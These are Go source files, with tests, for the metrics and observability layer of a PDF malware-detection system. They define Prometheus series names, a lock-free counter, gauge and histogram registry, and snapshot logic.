// Series composes a single-label series name, escaping the label value
// per the Prometheus text format.
func Series(name, label, value string) string {
	var b strings.Builder
	b.Grow(len(name) + len(label) + len(value) + 5)
	b.WriteString(name)
	b.WriteByte('{')
	b.WriteString(label)
	b.WriteString(`="`)
	for i := 0; i < len(value); i++ {
		switch c := value[i]; c {
		case '\\', '"':
			b.WriteByte('\\')
			b.WriteByte(c)
		case '\n':
			b.WriteString(`\n`)
		default:
			b.WriteByte(c)
		}
	}
	b.WriteString(`"}`)
	return b.String()
}

// PhaseSeries names one phase's latency series.
func PhaseSeries(phase string) string {
	return Series(MetricPhaseSeconds, "phase", phase)
}

// FeatureSeries names one detector feature's trigger counter.
func FeatureSeries(feature string) string {
	return Series(MetricFeatureTriggers, "feature", feature)
}

// SplitSeries splits a series name into its base name and the inline
// label block ("" when unlabelled): `a{b="c"}` → (`a`, `b="c"`).
func SplitSeries(series string) (base, labels string) {
	i := strings.IndexByte(series, '{')
	if i < 0 || !strings.HasSuffix(series, "}") {
		return series, ""
	}
	return series[:i], series[i+1 : len(series)-1]
}

// LabelValue extracts a label's value from a series name produced by
// Series ("" when absent).
func LabelValue(series, label string) string {
	_, lbl := SplitSeries(series)
	prefix := label + `="`
	i := strings.Index(lbl, prefix)
	if i < 0 {
		return ""
	}
	rest := lbl[i+len(prefix):]
	var b strings.Builder
	for i := 0; i < len(rest); i++ {
		c := rest[i]
		if c == '\\' && i+1 < len(rest) {
			i++
			if rest[i] == 'n' {
				b.WriteByte('\n')
			} else {
				b.WriteByte(rest[i])
			}
			continue
		}
		if c == '"' {
			break
		}
		b.WriteByte(c)
	}
	return b.String()
}
