package obs

import "strings"

// Canonical series names. Every component that reports into a Registry
// uses these, so the Prometheus exposition, the expvar snapshot and the
// public Stats API all agree on one vocabulary (documented in DESIGN.md
// §10).
const (
	// MetricPhaseSeconds is the per-phase latency histogram family; one
	// series per pipeline phase via PhaseSeries: parse, analyze,
	// instrument (front-end, observed by internal/instrument) and open,
	// detect (runtime, observed by internal/pipeline).
	MetricPhaseSeconds = "pdfshield_phase_seconds"
	// MetricDocSeconds is the end-to-end per-document latency histogram.
	MetricDocSeconds = "pdfshield_doc_seconds"

	// Pipeline outcome counters.
	MetricDocsTotal     = "pdfshield_docs_total"
	MetricDocsMalicious = "pdfshield_docs_malicious_total"
	MetricDocsNoJS      = "pdfshield_docs_nojavascript_total"
	MetricDocsCrashed   = "pdfshield_docs_crashed_total"
	MetricDocsErrored   = "pdfshield_docs_errored_total"
	MetricPanics        = "pdfshield_panics_contained_total"

	// Batch engine gauges.
	MetricBatchQueueDepth = "pdfshield_batch_queue_depth"
	MetricBatchWorkers    = "pdfshield_batch_workers"
	MetricSessionsActive  = "pdfshield_sessions_active"

	// Front-end (internal/instrument) counters.
	MetricDocsInstrumented = "pdfshield_docs_instrumented_total"
	MetricScripts          = "pdfshield_scripts_instrumented_total"
	MetricStagedRewrites   = "pdfshield_staged_rewrites_total"

	// Runtime detector (internal/detect) counters.
	MetricAlerts          = "pdfshield_alerts_total"
	MetricFakeMessages    = "pdfshield_fake_messages_total"
	MetricFeatureTriggers = "pdfshield_feature_triggers_total"

	// MetricHookAcceptErrors counts transient Accept failures on the
	// detector's hook listener (retried with backoff, never fatal).
	MetricHookAcceptErrors = "pdfshield_hook_accept_errors_total"

	// Ingestion daemon series (internal/serve). Admission is the bounded
	// queue in front of the scan workers; rejections carry a reason label
	// ("queue" = backpressure 429, "ratelimit" = tenant bucket empty,
	// "draining" = shutdown in progress). Proxied counts documents routed
	// to their consistent-hash owner peer.
	MetricServeQueueDepth = "pdfshield_serve_queue_depth"
	MetricServeInFlight   = "pdfshield_serve_inflight"
	MetricServeAccepted   = "pdfshield_serve_accepted_total"
	MetricServeRejected   = "pdfshield_serve_rejected_total"
	MetricServeProxied    = "pdfshield_serve_proxied_total"
	MetricServeSeconds    = "pdfshield_serve_request_seconds"

	// Forensic event journal health (internal/journal). The fail-open
	// contract routes sink errors here instead of failing detection.
	MetricJournalEvents = "pdfshield_journal_events_total"
	MetricJournalErrors = "pdfshield_journal_errors_total"

	// Front-end cache series (callback-backed from cache.Stats; see
	// Cache.RegisterMetrics).
	MetricCacheHits      = "pdfshield_cache_hits_total"
	MetricCacheMisses    = "pdfshield_cache_misses_total"
	MetricCacheShared    = "pdfshield_cache_shared_total"
	MetricCacheEvictions = "pdfshield_cache_evictions_total"
	MetricCacheExpired   = "pdfshield_cache_expired_total"
	MetricCacheEntries   = "pdfshield_cache_entries"
	MetricCacheBytes     = "pdfshield_cache_bytes"

	// Static triage tier series (internal/pipeline over internal/triage).
	// Routes carries a "route" label (benign/malicious/uncertain); the
	// histogram observes each triage evaluation.
	MetricTriageRoutes  = "pdfshield_triage_routes_total"
	MetricTriageSeconds = "pdfshield_triage_seconds"

	// Forced-execution deep-scan series (internal/pipeline over
	// internal/js ExploreForced). Paths counts every explored path
	// (natural ones included); the histogram observes the whole deep open
	// (reader open with forced execution active) and uses the widened
	// DeepScanBuckets bounds — deep opens routinely exceed the default
	// 10s top bucket; the budget counter counts scripts whose exploration
	// a path/step/decision budget cut short.
	MetricDeepScanPaths   = "pdfshield_deepscan_paths_total"
	MetricDeepScanSeconds = "pdfshield_deepscan_seconds"
	MetricDeepScanBudget  = "pdfshield_deepscan_budget_exhausted_total"

	// Bytecode JS engine series (internal/js). The histogram observes each
	// compile performed on a unit-cache miss; the counters/gauges are
	// callback-backed from js.UnitCache.Stats (see pipeline's System wiring).
	MetricJSCompileSeconds = "pdfshield_js_compile_seconds"
	MetricJSUnitsHits      = "pdfshield_js_units_hits_total"
	MetricJSUnitsMisses    = "pdfshield_js_units_misses_total"
	MetricJSUnitsEvictions = "pdfshield_js_units_evictions_total"
	MetricJSUnitsEntries   = "pdfshield_js_units_entries"
	MetricJSUnitsBytes     = "pdfshield_js_units_bytes"

	// Diagnostics subsystem series (flight recorder, SLO tracking, stall
	// watchdog — see flight.go/slo.go/watchdog.go and DESIGN.md §16).
	//
	// SLO series carry an "slo" label naming the objective; the burn-rate
	// gauge is the rolling-window error rate divided by the objective's
	// error budget (1.0 = burning the budget exactly as fast as allowed).
	MetricSLOBurnRate = "pdfshield_slo_burn_rate"
	MetricSLOBreaches = "pdfshield_slo_breaches_total"
	MetricSLOObserved = "pdfshield_slo_observed_total"
	// MetricFlightRetained counts traces the flight recorder tail-sampled
	// into guaranteed retention, labelled by reason (errored / crashed /
	// quarantined / deep-scan / slow).
	MetricFlightRetained = "pdfshield_flight_retained_total"
	// MetricWatchdogStalls counts documents the stall watchdog flagged as
	// stuck past their phase deadline (each capture includes a goroutine
	// dump; see Watchdog.Reports).
	MetricWatchdogStalls = "pdfshield_watchdog_stalls_total"

	// MetricBuildInfo is the conventional build-identity gauge: constant
	// value 1 with version/go_version labels, so a scrape identifies the
	// binary it is talking to (stamped via -ldflags in the Makefile).
	MetricBuildInfo = "pdfshield_build_info"
)

// Pipeline phase names, in execution order (also the span names of a
// document trace).
const (
	PhaseParse      = "parse"
	PhaseAnalyze    = "analyze"
	PhaseInstrument = "instrument"
	// PhaseTriage is the static fast-path stage between instrument and
	// open (absent from traces when triage is disabled).
	PhaseTriage = "triage"
	PhaseOpen   = "open"
	PhaseDetect = "detect"
	// PhaseFrontEnd is the collapsed front-end span recorded when a cache
	// hit (or shared flight) skipped the real parse/analyze/instrument
	// phases.
	PhaseFrontEnd = "frontend"
)

// LatencyBuckets are the default histogram bounds in seconds, spanning
// the sub-millisecond front-end phases up to multi-second corpus passes.
var LatencyBuckets = []float64{
	50e-6, 100e-6, 250e-6, 500e-6,
	1e-3, 2.5e-3, 5e-3, 10e-3, 25e-3, 50e-3, 100e-3, 250e-3, 500e-3,
	1, 2.5, 5, 10,
}

// DeepScanBuckets extend LatencyBuckets past the 10s ceiling for the
// deep-scan open histogram: forced execution costs ~78× a standard open,
// so observations above 10s are routine there, and with the default
// bounds they all collapsed into the implicit +Inf bucket — silently
// truncating any p90 estimate at 10s. The explicit overflow buckets keep
// the tail quantiles finite up to five minutes.
var DeepScanBuckets = append(append([]float64{}, LatencyBuckets...),
	30, 60, 120, 300)

// Series composes a single-label series name, escaping the label value
// per the Prometheus text format.
func Series(name, label, value string) string {
	return Labels(name, label, value)
}

// Labels composes a series name with any number of label pairs
// (label1, value1, label2, value2, ...), escaping each value per the
// Prometheus text format. A trailing odd argument is ignored.
func Labels(name string, kv ...string) string {
	var b strings.Builder
	b.Grow(len(name) + 8*len(kv))
	b.WriteString(name)
	b.WriteByte('{')
	for i := 0; i+1 < len(kv); i += 2 {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(kv[i])
		b.WriteString(`="`)
		value := kv[i+1]
		for j := 0; j < len(value); j++ {
			switch c := value[j]; c {
			case '\\', '"':
				b.WriteByte('\\')
				b.WriteByte(c)
			case '\n':
				b.WriteString(`\n`)
			default:
				b.WriteByte(c)
			}
		}
		b.WriteByte('"')
	}
	b.WriteString(`}`)
	return b.String()
}

// PhaseSeries names one phase's latency series.
func PhaseSeries(phase string) string {
	return Series(MetricPhaseSeconds, "phase", phase)
}

// FeatureSeries names one detector feature's trigger counter.
func FeatureSeries(feature string) string {
	return Series(MetricFeatureTriggers, "feature", feature)
}

// SplitSeries splits a series name into its base name and the inline
// label block ("" when unlabelled): `a{b="c"}` → (`a`, `b="c"`).
func SplitSeries(series string) (base, labels string) {
	i := strings.IndexByte(series, '{')
	if i < 0 || !strings.HasSuffix(series, "}") {
		return series, ""
	}
	return series[:i], series[i+1 : len(series)-1]
}

// LabelValue extracts a label's value from a series name produced by
// Series ("" when absent).
func LabelValue(series, label string) string {
	_, lbl := SplitSeries(series)
	prefix := label + `="`
	// Match only at a label boundary (start or after a comma), so asking
	// for "version" cannot land inside a "go_version" pair.
	i := strings.Index(lbl, prefix)
	for i > 0 && lbl[i-1] != ',' {
		j := strings.Index(lbl[i+1:], prefix)
		if j < 0 {
			return ""
		}
		i += 1 + j
	}
	if i < 0 {
		return ""
	}
	rest := lbl[i+len(prefix):]
	var b strings.Builder
	for i := 0; i < len(rest); i++ {
		c := rest[i]
		if c == '\\' && i+1 < len(rest) {
			i++
			if rest[i] == 'n' {
				b.WriteByte('\n')
			} else {
				b.WriteByte(rest[i])
			}
			continue
		}
		if c == '"' {
			break
		}
		b.WriteByte(c)
	}
	return b.String()
}
