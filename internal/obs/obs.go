// Package obs is the system's internal observability layer: a
// dependency-free metrics registry (atomic counters, integer gauges,
// fixed-bucket latency histograms, callback-backed metrics) plus
// per-document trace records. Every pipeline phase boundary reports into
// a Registry, and the same data is exposed three ways: a structured
// Snapshot (feeds the public System.Stats and expvar), a Prometheus
// text-format writer/HTTP handler (prom.go), and per-document Traces
// attached to verdicts (trace.go).
//
// The paper's whole evaluation (Tables VIII/IX/X, Figure 6) is about
// where time goes — front-end parsing vs. instrumentation vs. runtime
// monitoring — so the phase accounting here is first-class rather than
// bolted on by external stopwatches.
//
// Concurrency: all metric mutation is lock-free (sync/atomic); the
// registry itself takes a short lock only on first registration of a
// series. Metric getters on a nil *Registry are invalid, but the Inc /
// Add / GaugeAdd / GaugeSet / Observe convenience methods are nil-safe,
// so optional instrumentation (detect, instrument) wires in without
// guards.
package obs

import (
	"sort"
	"strconv"
	"sync"
	"sync/atomic"
	"time"
)

// Counter is a monotonically increasing counter.
type Counter struct {
	v atomic.Uint64
}

// Inc adds 1.
func (c *Counter) Inc() { c.v.Add(1) }

// Add adds n.
func (c *Counter) Add(n uint64) { c.v.Add(n) }

// Value returns the current count.
func (c *Counter) Value() uint64 { return c.v.Load() }

// Gauge is an integer gauge (queue depths, resident counts).
type Gauge struct {
	v atomic.Int64
}

// Set replaces the value.
func (g *Gauge) Set(v int64) { g.v.Store(v) }

// Add moves the value by delta (may be negative).
func (g *Gauge) Add(delta int64) { g.v.Add(delta) }

// Value returns the current value.
func (g *Gauge) Value() int64 { return g.v.Load() }

// Histogram is a fixed-bucket latency histogram. Bounds are upper bounds
// in seconds, sorted ascending; observations above the last bound land in
// the implicit +Inf bucket. Bucket counts are non-cumulative internally
// and cumulated at snapshot time (the Prometheus convention).
type Histogram struct {
	bounds []float64
	counts []atomic.Uint64 // len(bounds)+1; last = +Inf
	count  atomic.Uint64
	sumNS  atomic.Int64
	// exemplars remembers the worst (slowest) labelled observation per
	// bucket — len(bounds)+1, lazily CASed, nil until a labelled
	// observation lands in the bucket. A bad p99 bucket thereby names the
	// concrete document behind it (see ObserveExemplar).
	exemplars []atomic.Pointer[exemplar]
}

// exemplar is one labelled observation retained for a bucket.
type exemplar struct {
	seconds float64
	label   string
}

// newHistogram copies bounds (which must be sorted ascending).
func newHistogram(bounds []float64) *Histogram {
	b := make([]float64, len(bounds))
	copy(b, bounds)
	return &Histogram{
		bounds:    b,
		counts:    make([]atomic.Uint64, len(b)+1),
		exemplars: make([]atomic.Pointer[exemplar], len(b)+1),
	}
}

// bucketIndex returns the bucket an observation lands in. Bounds are
// short (tens), so a linear scan beats binary search at this size and
// keeps the hot path branch-predictable.
func (h *Histogram) bucketIndex(seconds float64) int {
	i := 0
	for i < len(h.bounds) && seconds > h.bounds[i] {
		i++
	}
	return i
}

// Observe records one observation in seconds.
func (h *Histogram) Observe(seconds float64) {
	h.counts[h.bucketIndex(seconds)].Add(1)
	h.count.Add(1)
	h.sumNS.Add(int64(seconds * 1e9))
}

// ObserveExemplar records one observation and, when it is the slowest
// its bucket has seen, retains label (a document ID) as the bucket's
// exemplar. Lock-free: concurrent racers CAS and the slower observation
// wins.
func (h *Histogram) ObserveExemplar(seconds float64, label string) {
	i := h.bucketIndex(seconds)
	h.counts[i].Add(1)
	h.count.Add(1)
	h.sumNS.Add(int64(seconds * 1e9))
	for {
		cur := h.exemplars[i].Load()
		if cur != nil && cur.seconds >= seconds {
			return
		}
		if h.exemplars[i].CompareAndSwap(cur, &exemplar{seconds: seconds, label: label}) {
			return
		}
	}
}

// ObserveDuration records one observation.
func (h *Histogram) ObserveDuration(d time.Duration) {
	h.Observe(d.Seconds())
}

// Count returns the number of observations.
func (h *Histogram) Count() uint64 { return h.count.Load() }

// SumSeconds returns the sum of all observations in seconds.
func (h *Histogram) SumSeconds() float64 { return float64(h.sumNS.Load()) / 1e9 }

// Bucket is one cumulative histogram bucket in a snapshot.
type Bucket struct {
	// UpperBound is the bucket's inclusive upper bound in seconds. The
	// implicit +Inf bucket is not listed; its cumulative count equals
	// HistogramSnapshot.Count.
	UpperBound float64 `json:"le"`
	// Count is the cumulative number of observations <= UpperBound.
	Count uint64 `json:"count"`
}

// Exemplar is one retained worst-per-bucket labelled observation in a
// snapshot. Le is the bucket's upper bound rendered as a string ("+Inf"
// for the overflow bucket — a float field could not marshal infinity).
type Exemplar struct {
	Le      string  `json:"le"`
	DocID   string  `json:"doc_id"`
	Seconds float64 `json:"seconds"`
}

// HistogramSnapshot is a point-in-time view of one histogram.
type HistogramSnapshot struct {
	Count      uint64   `json:"count"`
	SumSeconds float64  `json:"sum_seconds"`
	Buckets    []Bucket `json:"buckets"`
	// Exemplars lists, for every bucket that has one, the document behind
	// its slowest observation (see Histogram.ObserveExemplar).
	Exemplars []Exemplar `json:"exemplars,omitempty"`
}

// Mean returns the mean observation in seconds (0 when empty).
func (h HistogramSnapshot) Mean() float64 {
	if h.Count == 0 {
		return 0
	}
	return h.SumSeconds / float64(h.Count)
}

// snapshot builds the cumulative view.
func (h *Histogram) snapshot() HistogramSnapshot {
	out := HistogramSnapshot{
		Count:      h.count.Load(),
		SumSeconds: h.SumSeconds(),
		Buckets:    make([]Bucket, len(h.bounds)),
	}
	var cum uint64
	for i, b := range h.bounds {
		cum += h.counts[i].Load()
		out.Buckets[i] = Bucket{UpperBound: b, Count: cum}
	}
	for i := range h.exemplars {
		ex := h.exemplars[i].Load()
		if ex == nil {
			continue
		}
		le := "+Inf"
		if i < len(h.bounds) {
			le = strconv.FormatFloat(h.bounds[i], 'g', -1, 64)
		}
		out.Exemplars = append(out.Exemplars, Exemplar{Le: le, DocID: ex.label, Seconds: ex.seconds})
	}
	return out
}

// funcKind distinguishes how a callback metric renders.
type funcKind int

const (
	funcCounter funcKind = iota
	funcGauge
)

// funcMetric is a callback-backed series: its value is computed at
// snapshot/scrape time. Used to fold external counters (the front-end
// cache's own stats) into the registry without double bookkeeping.
type funcMetric struct {
	kind funcKind
	fn   func() float64
}

// Registry is a named set of metrics. The zero value is not usable; use
// NewRegistry. All methods are safe for concurrent use.
type Registry struct {
	mu       sync.RWMutex
	counters map[string]*Counter
	gauges   map[string]*Gauge
	hists    map[string]*Histogram
	funcs    map[string]funcMetric
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{
		counters: make(map[string]*Counter),
		gauges:   make(map[string]*Gauge),
		hists:    make(map[string]*Histogram),
		funcs:    make(map[string]funcMetric),
	}
}

// Default is the process-wide registry used when a component is not given
// an explicit one (mirrors expvar's global namespace). Long-lived
// binaries serve it via -metrics-addr; tests that need isolation pass
// their own NewRegistry.
var Default = NewRegistry()

// Counter returns the counter registered under name, creating it on
// first use. Series names may carry a Prometheus label set inline, e.g.
// `pdfshield_feature_triggers_total{feature="F8"}`.
func (r *Registry) Counter(name string) *Counter {
	r.mu.RLock()
	c, ok := r.counters[name]
	r.mu.RUnlock()
	if ok {
		return c
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if c, ok = r.counters[name]; ok {
		return c
	}
	c = &Counter{}
	r.counters[name] = c
	return c
}

// Gauge returns the gauge registered under name, creating it on first use.
func (r *Registry) Gauge(name string) *Gauge {
	r.mu.RLock()
	g, ok := r.gauges[name]
	r.mu.RUnlock()
	if ok {
		return g
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if g, ok = r.gauges[name]; ok {
		return g
	}
	g = &Gauge{}
	r.gauges[name] = g
	return g
}

// Histogram returns the histogram registered under name, creating it with
// the given bucket bounds on first use (later calls ignore bounds).
func (r *Registry) Histogram(name string, bounds []float64) *Histogram {
	r.mu.RLock()
	h, ok := r.hists[name]
	r.mu.RUnlock()
	if ok {
		return h
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if h, ok = r.hists[name]; ok {
		return h
	}
	h = newHistogram(bounds)
	r.hists[name] = h
	return h
}

// CounterFunc registers (or replaces) a callback-backed counter series.
func (r *Registry) CounterFunc(name string, fn func() float64) {
	if r == nil {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	r.funcs[name] = funcMetric{kind: funcCounter, fn: fn}
}

// GaugeFunc registers (or replaces) a callback-backed gauge series.
func (r *Registry) GaugeFunc(name string, fn func() float64) {
	if r == nil {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	r.funcs[name] = funcMetric{kind: funcGauge, fn: fn}
}

// ---- nil-safe convenience methods (optional instrumentation sites) ----

// Inc increments a counter; no-op on a nil registry.
func (r *Registry) Inc(name string) {
	if r == nil {
		return
	}
	r.Counter(name).Inc()
}

// CounterAdd adds n to a counter; no-op on a nil registry.
func (r *Registry) CounterAdd(name string, n uint64) {
	if r == nil {
		return
	}
	r.Counter(name).Add(n)
}

// GaugeAdd moves a gauge; no-op on a nil registry.
func (r *Registry) GaugeAdd(name string, delta int64) {
	if r == nil {
		return
	}
	r.Gauge(name).Add(delta)
}

// GaugeSet sets a gauge; no-op on a nil registry.
func (r *Registry) GaugeSet(name string, v int64) {
	if r == nil {
		return
	}
	r.Gauge(name).Set(v)
}

// Observe records a duration into a latency histogram (created with
// LatencyBuckets on first use); no-op on a nil registry.
func (r *Registry) Observe(name string, d time.Duration) {
	if r == nil {
		return
	}
	r.Histogram(name, LatencyBuckets).ObserveDuration(d)
}

// ObserveBuckets records a duration into a histogram created with
// explicit bucket bounds on first use (wider-range families like
// MetricDeepScanSeconds); no-op on a nil registry.
func (r *Registry) ObserveBuckets(name string, bounds []float64, d time.Duration) {
	if r == nil {
		return
	}
	r.Histogram(name, bounds).ObserveDuration(d)
}

// ObserveDoc records a duration into a latency histogram and retains
// docID as the bucket's exemplar when this is the slowest observation the
// bucket has seen; no-op on a nil registry.
func (r *Registry) ObserveDoc(name string, d time.Duration, docID string) {
	if r == nil {
		return
	}
	r.Histogram(name, LatencyBuckets).ObserveExemplar(d.Seconds(), docID)
}

// Snapshot is a structured point-in-time view of a whole registry.
// Callback-backed series are folded into Counters/Gauges by kind. It
// marshals cleanly to JSON (the expvar and System.Stats surface).
type Snapshot struct {
	Counters   map[string]uint64            `json:"counters"`
	Gauges     map[string]float64           `json:"gauges"`
	Histograms map[string]HistogramSnapshot `json:"histograms"`
}

// Snapshot captures every registered series. Nil-safe: a nil registry
// yields an empty snapshot.
func (r *Registry) Snapshot() Snapshot {
	out := Snapshot{
		Counters:   make(map[string]uint64),
		Gauges:     make(map[string]float64),
		Histograms: make(map[string]HistogramSnapshot),
	}
	if r == nil {
		return out
	}
	r.mu.RLock()
	counters := make(map[string]*Counter, len(r.counters))
	for k, v := range r.counters {
		counters[k] = v
	}
	gauges := make(map[string]*Gauge, len(r.gauges))
	for k, v := range r.gauges {
		gauges[k] = v
	}
	hists := make(map[string]*Histogram, len(r.hists))
	for k, v := range r.hists {
		hists[k] = v
	}
	funcs := make(map[string]funcMetric, len(r.funcs))
	for k, v := range r.funcs {
		funcs[k] = v
	}
	r.mu.RUnlock()

	// Callbacks run outside the registry lock: they may take their own
	// locks (cache shard mutexes) and must not be able to deadlock us.
	for name, c := range counters {
		out.Counters[name] = c.Value()
	}
	for name, g := range gauges {
		out.Gauges[name] = float64(g.Value())
	}
	for name, h := range hists {
		out.Histograms[name] = h.snapshot()
	}
	for name, f := range funcs {
		v := f.fn()
		switch f.kind {
		case funcCounter:
			if v < 0 {
				v = 0
			}
			out.Counters[name] = uint64(v)
		default:
			out.Gauges[name] = v
		}
	}
	return out
}

// sortedKeys returns the keys of a map in sorted order (deterministic
// exposition output).
func sortedKeys[V any](m map[string]V) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}
