package obs

import (
	"encoding/json"
	"math"
	"strings"
	"sync"
	"testing"
	"time"
)

// TestHistogramBucketMath pins the bucket semantics: bounds are inclusive
// upper bounds, observations above the last bound land in +Inf, and the
// snapshot cumulates per the Prometheus convention.
func TestHistogramBucketMath(t *testing.T) {
	h := newHistogram([]float64{0.001, 0.01, 0.1})
	for _, v := range []float64{
		0.0005, // first bucket
		0.001,  // exactly on a bound: counts in that bucket (le is <=)
		0.005,  // second bucket
		0.05,   // third bucket
		0.5,    // above every bound: +Inf only
		2.0,    // +Inf
	} {
		h.Observe(v)
	}
	snap := h.snapshot()
	if snap.Count != 6 {
		t.Fatalf("count = %d, want 6", snap.Count)
	}
	wantCum := []uint64{2, 3, 4}
	for i, b := range snap.Buckets {
		if b.Count != wantCum[i] {
			t.Errorf("bucket le=%g cumulative = %d, want %d", b.UpperBound, b.Count, wantCum[i])
		}
	}
	wantSum := 0.0005 + 0.001 + 0.005 + 0.05 + 0.5 + 2.0
	if math.Abs(snap.SumSeconds-wantSum) > 1e-6 {
		t.Errorf("sum = %g, want %g", snap.SumSeconds, wantSum)
	}
	if mean := snap.Mean(); math.Abs(mean-wantSum/6) > 1e-6 {
		t.Errorf("mean = %g, want %g", mean, wantSum/6)
	}
	if (HistogramSnapshot{}).Mean() != 0 {
		t.Error("empty histogram mean should be 0")
	}
}

// TestRegistryGetOrCreate verifies the same series name yields the same
// metric, and that a histogram's bounds are fixed at first registration.
func TestRegistryGetOrCreate(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("a_total")
	c.Add(3)
	if got := r.Counter("a_total").Value(); got != 3 {
		t.Fatalf("re-fetched counter = %d, want 3", got)
	}
	h := r.Histogram("h_seconds", []float64{1, 2})
	h.Observe(1.5)
	h2 := r.Histogram("h_seconds", []float64{100, 200}) // bounds ignored
	if h2 != h {
		t.Fatal("second Histogram call returned a different metric")
	}
	if got := len(h2.snapshot().Buckets); got != 2 {
		t.Fatalf("bounds replaced on re-registration: %d buckets", got)
	}
}

// TestNilRegistryConvenience proves the optional-instrumentation methods
// are safe without a registry.
func TestNilRegistryConvenience(t *testing.T) {
	var r *Registry
	r.Inc("x")
	r.CounterAdd("x", 2)
	r.GaugeAdd("g", 1)
	r.GaugeSet("g", 5)
	r.Observe("h", time.Millisecond)
	r.CounterFunc("cf", func() float64 { return 1 })
	r.GaugeFunc("gf", func() float64 { return 1 })
	snap := r.Snapshot()
	if len(snap.Counters)+len(snap.Gauges)+len(snap.Histograms) != 0 {
		t.Fatalf("nil registry snapshot not empty: %+v", snap)
	}
}

// TestSnapshotFuncs checks callback-backed series fold into the snapshot
// by kind, negative counter callbacks clamp to zero, and re-registration
// replaces the callback.
func TestSnapshotFuncs(t *testing.T) {
	r := NewRegistry()
	r.CounterFunc("cache_hits_total", func() float64 { return 42 })
	r.GaugeFunc("cache_bytes", func() float64 { return 1024 })
	r.CounterFunc("weird_total", func() float64 { return -5 })
	snap := r.Snapshot()
	if snap.Counters["cache_hits_total"] != 42 {
		t.Errorf("counter func = %d, want 42", snap.Counters["cache_hits_total"])
	}
	if snap.Gauges["cache_bytes"] != 1024 {
		t.Errorf("gauge func = %g, want 1024", snap.Gauges["cache_bytes"])
	}
	if snap.Counters["weird_total"] != 0 {
		t.Errorf("negative counter func = %d, want clamped 0", snap.Counters["weird_total"])
	}
	r.CounterFunc("cache_hits_total", func() float64 { return 7 })
	if got := r.Snapshot().Counters["cache_hits_total"]; got != 7 {
		t.Errorf("replaced counter func = %d, want 7", got)
	}
}

// TestConcurrentObservation hammers one registry from many goroutines;
// the counts must be exact (lock-free does not mean lossy) and -race must
// stay quiet.
func TestConcurrentObservation(t *testing.T) {
	r := NewRegistry()
	const goroutines, per = 8, 1000
	var wg sync.WaitGroup
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < per; i++ {
				r.Inc("c_total")
				r.GaugeAdd("g", 1)
				r.Observe("h_seconds", time.Microsecond)
			}
		}()
	}
	wg.Wait()
	snap := r.Snapshot()
	if snap.Counters["c_total"] != goroutines*per {
		t.Errorf("counter = %d, want %d", snap.Counters["c_total"], goroutines*per)
	}
	if snap.Gauges["g"] != goroutines*per {
		t.Errorf("gauge = %g, want %d", snap.Gauges["g"], goroutines*per)
	}
	if snap.Histograms["h_seconds"].Count != goroutines*per {
		t.Errorf("histogram count = %d, want %d", snap.Histograms["h_seconds"].Count, goroutines*per)
	}
}

// TestSeriesRoundTrip checks label composition, escaping, and parsing.
func TestSeriesRoundTrip(t *testing.T) {
	cases := []struct{ label, value string }{
		{"phase", "parse"},
		{"feature", `F8:has"quote`},
		{"feature", `back\slash`},
		{"feature", "new\nline"},
	}
	for _, c := range cases {
		s := Series("m_total", c.label, c.value)
		base, labels := SplitSeries(s)
		if base != "m_total" || labels == "" {
			t.Errorf("SplitSeries(%q) = (%q, %q)", s, base, labels)
		}
		if got := LabelValue(s, c.label); got != c.value {
			t.Errorf("LabelValue(%q, %q) = %q, want %q", s, c.label, got, c.value)
		}
	}
	if base, labels := SplitSeries("plain_total"); base != "plain_total" || labels != "" {
		t.Errorf("unlabelled split = (%q, %q)", base, labels)
	}
	if got := LabelValue("plain_total", "phase"); got != "" {
		t.Errorf("LabelValue on unlabelled series = %q, want empty", got)
	}
}

// TestWritePrometheus pins the text exposition format: one TYPE line per
// family, labeled histogram series with merged le labels, cumulative
// buckets ending in +Inf, and _sum/_count lines.
func TestWritePrometheus(t *testing.T) {
	r := NewRegistry()
	r.Counter("pdfshield_docs_total").Add(3)
	r.Counter(Series("pdfshield_feature_triggers_total", "feature", "F5")).Add(2)
	r.Gauge("pdfshield_batch_workers").Set(4)
	h := r.Histogram(PhaseSeries(PhaseParse), []float64{0.001, 0.01})
	h.Observe(0.0005)
	h.Observe(0.005)
	h.Observe(0.5)

	var sb strings.Builder
	if err := r.WritePrometheus(&sb); err != nil {
		t.Fatal(err)
	}
	text := sb.String()

	for _, want := range []string{
		"# TYPE pdfshield_docs_total counter\n",
		"pdfshield_docs_total 3\n",
		"# TYPE pdfshield_feature_triggers_total counter\n",
		`pdfshield_feature_triggers_total{feature="F5"} 2` + "\n",
		"# TYPE pdfshield_batch_workers gauge\n",
		"pdfshield_batch_workers 4\n",
		"# TYPE pdfshield_phase_seconds histogram\n",
		`pdfshield_phase_seconds_bucket{phase="parse",le="0.001"} 1` + "\n",
		`pdfshield_phase_seconds_bucket{phase="parse",le="0.01"} 2` + "\n",
		`pdfshield_phase_seconds_bucket{phase="parse",le="+Inf"} 3` + "\n",
		`pdfshield_phase_seconds_count{phase="parse"} 3` + "\n",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("exposition missing %q\n---\n%s", want, text)
		}
	}
	if strings.Count(text, "# TYPE pdfshield_phase_seconds ") != 1 {
		t.Error("TYPE line for the histogram family should appear exactly once")
	}
	if !strings.Contains(text, `pdfshield_phase_seconds_sum{phase="parse"} 0.50`) {
		t.Errorf("sum line missing or wrong:\n%s", text)
	}
}

// TestSnapshotJSON proves the structured snapshot (the expvar and
// System.Stats surface) marshals and unmarshals without loss.
func TestSnapshotJSON(t *testing.T) {
	r := NewRegistry()
	r.Counter("c_total").Add(9)
	r.Gauge("g").Set(-2)
	r.Histogram("h_seconds", []float64{1}).Observe(0.5)
	data, err := json.Marshal(r.Snapshot())
	if err != nil {
		t.Fatal(err)
	}
	var back Snapshot
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatal(err)
	}
	if back.Counters["c_total"] != 9 || back.Gauges["g"] != -2 {
		t.Fatalf("round-trip mismatch: %+v", back)
	}
	if hs := back.Histograms["h_seconds"]; hs.Count != 1 || len(hs.Buckets) != 1 {
